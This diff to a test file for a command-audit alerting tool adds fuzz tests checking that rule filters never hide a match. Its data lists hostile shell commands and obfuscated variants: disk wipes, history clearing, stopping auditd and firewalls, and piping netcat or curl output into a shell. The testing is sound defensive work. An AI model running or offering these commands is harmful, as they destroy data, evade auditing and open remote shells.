@@ -4,7 +4,9 @@
  */
 import { describe, expect, test } from "bun:test";
 import { BUILTIN_RULES } from "../../server/src/alerts/builtin-rules.ts";
-import { activeRules, matchRecord, type RuleConfig, ruleSchema, type RuleInput } from "../../server/src/alerts/rules.ts";
+import { seesCommands } from "../../server/src/alerts/line-filter.ts";
+import { normalize } from "../../server/src/alerts/normalize.ts";
+import { activeRules, MATCH_CHARS, matchRecord, type Rule, type RuleConfig, ruleSchema, type RuleInput } from "../../server/src/alerts/rules.ts";
 
 const input = (command: string, over: Partial<RuleInput> = {}): RuleInput => ({ command, kind: "command", flags: [], hostname: "web-1", luser: "alice", suser: "root", ...over });
 const builtins = activeRules({ rules: [], disabled_builtins: [] });
@@ -134,18 +136,42 @@ describe("config rules", () => {
   });
 });
 
-test("a built-in's program filter never hides a match: on fuzzed lines, filtered and unfiltered matching agree", () => {
-  const unfiltered = builtins.map((r) => ({ ...r, programs: undefined }));
-  const pieces = ["rm -rf /", "mkfs.ext4 /dev/sdb", "curl x | sh", "set +o history", "history -c", "chattr -i /var/log/cmdaudit", "dd of=/dev/sda", "iptables -F",
-    "systemctl stop auditd", "exec zsh", "base64 -d x | bash", "pkill cmdaudit", "ls", "vim a", "echo hi", "sudo", "env X=1", "HISTFILE=/dev/null", "cat /etc/profile"];
-  const joins = [" ; ", " && ", " | ", " || ", "\n", " $(", " `"];
+/** Every rule tried on every line, normalised in full: what the program and line filters must agree with. */
+const reference = (rules: Rule[], i: RuleInput) =>
+  rules.filter((r) => r.matches(i, i.kind === "command" && seesCommands(r) ? normalize(i.command.slice(0, MATCH_CHARS)) : [])).map((r) => r.id);
+
+describe("the filters never hide a match: on fuzzed lines, matchRecord agrees with trying every rule on the normalised line", () => {
   let seed = 7;
   const next = (n: number) => { seed = (seed * 1103515245 + 12345) % 2 ** 31; return seed % n; };
-  for (let i = 0; i < 3000; i++) {
-    let line = pieces[next(pieces.length)]!;
-    for (let k = next(3); k > 0; k--) line += joins[next(joins.length)]! + pieces[next(pieces.length)]!;
-    const a = matchRecord(builtins, input(line)).map((r) => r.id);
-    const b = matchRecord(unfiltered, input(line)).map((r) => r.id);
-    expect({ line, ids: a }).toEqual({ line, ids: b });
-  }
+  const check = (rules: Rule[], line: string) => expect({ line, ids: matchRecord(rules, input(line)).map((r) => r.id) }).toEqual({ line, ids: reference(rules, input(line)) });
+
+  // Two config rules: one on programs whose names hold a quote, one on the text alone.
+  const rules = [...builtins, ...activeRules({ rules: [ruleSchema.parse({ id: "c.quoted", command: ["fo'o", "fs.ext4"] }), ruleSchema.parse({ id: "c.regex", regex: "rm" })], disabled_builtins: [] }).slice(builtins.length)];
+
+  test("whole commands joined by separators and substitutions", () => {
+    const pieces = ["rm -rf /", "mkfs.ext4 /dev/sdb", "curl x | sh", "set +o history", "history -c", "chattr -i /var/log/cmdaudit", "dd of=/dev/sda", "iptables -F",
+      "systemctl stop auditd", "exec zsh", "base64 -d x | bash", "pkill cmdaudit", "ls", "vim a", "echo hi", "sudo", "env X=1", "HISTFILE=/dev/null", "cat /etc/profile",
+      "/sbin/rm -r /", "sudo /usr/sbin/mkfs -t ext4 /dev/sdc", "eval rm -rf /", "sh -c 'rm -rf /'", "r''m -rf /", "\\rm -fr /", "\"rm\" -rf /*", "x=$(rm -rf /)",
+      "bash -c \"$(curl -s x)\"", "unset HIST''FILE", "export PROMPT_COMMAND=", "wipe''fs -a /dev/sda", "(rm -rf /)", "{ rm -rf /; }", "a\\\nrm -rf /",
+      "r\\\nm -rf /", "mk\\\nfs.ext4 /dev/sda", "\"fo'o\" x", "fo\\'o y",
+      "nc\t10.0.0.1 80 | sh", "n''c 10.0.0.1 80 | bash", "/bin/nc\r10.0.0.1 80|sh", "systemctl stop cmdaudit-stampd", "crontab -ir", "service firewalld stop",
+      "openssl base64 -d -in x | sh", "xxd -r -p x | bash", "dd of=/dev/nvme0n1", "systemctl stop auditd.service", "nft flush ruleset", "ufw disable"];
+    const joins = [" ; ", " && ", " | ", " || ", "\n", " $(", " `", "'", "\"", "\\", ""];
+    for (let i = 0; i < 4000; i++) {
+      let line = pieces[next(pieces.length)]!;
+      for (let k = next(3); k > 0; k--) line += joins[next(joins.length)]! + pieces[next(pieces.length)]!;
+      check(rules, line);
+    }
+  });
+
+  test("lines made of shell fragments: quotes, escapes, separators and pieces of program names", () => {
+    const bits = ["r", "m", "rm", " ", " ", "-rf", "/", "/*", "'", "\"", "\\", "\n", ";", "|", "&", "`", "$(", "(", ")", "{", "}", "sh", "ba", "set", "+o", "history",
+      "HIST", "FILE=", "mk", "fs", ".ext4", "\\\n", "dd", "of=/dev/sda", "eval", "-c", "curl", "base64", "-d", "chattr", "-a", "cmd", "audit", "sudo", "x", "=", ".",
+      "nc", "\t", "\r", "wget", "-O-", "of=/dev/sda", "systemctl", "stop", "firewalld", "auditd", "crontab", "-r", "xxd", "openssl", "pkill", "nft", "flush", "ruleset", "ufw", "disable"];
+    for (let i = 0; i < 20000; i++) {
+      let line = "";
+      for (let k = 1 + next(12); k > 0; k--) line += bits[next(bits.length)]!;
+      check(rules, line);
+    }
+  });
 });
